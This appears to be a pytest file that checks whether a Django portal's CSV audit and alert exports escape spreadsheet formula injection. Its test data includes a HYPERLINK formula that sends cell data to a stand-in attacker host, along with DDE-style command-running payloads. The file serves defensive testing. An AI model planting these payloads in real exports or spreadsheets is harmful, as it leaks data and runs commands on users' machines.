"""Attack: a CSV export cell that a spreadsheet runs as a formula (issue 11, finding 7)."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from accounts.audit import audit_recorder
from pdportal.webui import csv_safe

pytestmark = pytest.mark.django_db

# A cell a spreadsheet evaluates: the classic four, and tab / carriage return, which some strip first.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t@SUM(A1)",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_safe_neutralises_every_formula_start(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["disk full", "", "P1ABCDE", "https://x.example/", " =spaced"])
def test_csv_safe_leaves_ordinary_text_alone(value):
    assert csv_safe(value) == value


def _rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


@pytest.fixture(autouse=True)
def _plain_http(settings):
    settings.SECURE_SSL_REDIRECT = False


@pytest.mark.parametrize("value", FORMULAS)
def test_the_audit_export_neutralises_every_cell(client_as, admin, value):
    audit_recorder(user=admin)(
        {
            "method": "POST",
            "path": value,
            "url": value,
            "status": 400,
            "error_message": value,
            "duration_ms": 1,
        }
    )

    rows = _rows(client_as(admin).get("/audit/", {"format": "csv"}))

    row = dict(zip(rows[0], rows[1], strict=True))
    for column in ("path", "error", "url"):
        assert row[column].startswith("'"), (column, row[column])


@pytest.mark.parametrize("value", FORMULAS)
def test_the_alert_export_neutralises_every_cell(client_as, responder, value):
    from incidents.models import Alert, Incident

    incident = Incident.objects.create(
        pd_id="PCSV001", number=9, title="x", status="triggered", created_at=timezone.now()
    )
    Alert.objects.create(
        pd_id="PALCSV1",
        incident=incident,
        status=value[:16],
        severity=value[:16],
        summary=value,
        alert_key=value,
        created_at=timezone.now(),
        body={"details": value},
    )

    rows = _rows(client_as(responder).get("/incidents/PCSV001/alerts.csv"))

    row = dict(zip(rows[0], rows[1], strict=True))
    for column in ("status", "severity", "summary", "alert_key"):
        assert row[column].startswith("'"), (column, row[column])
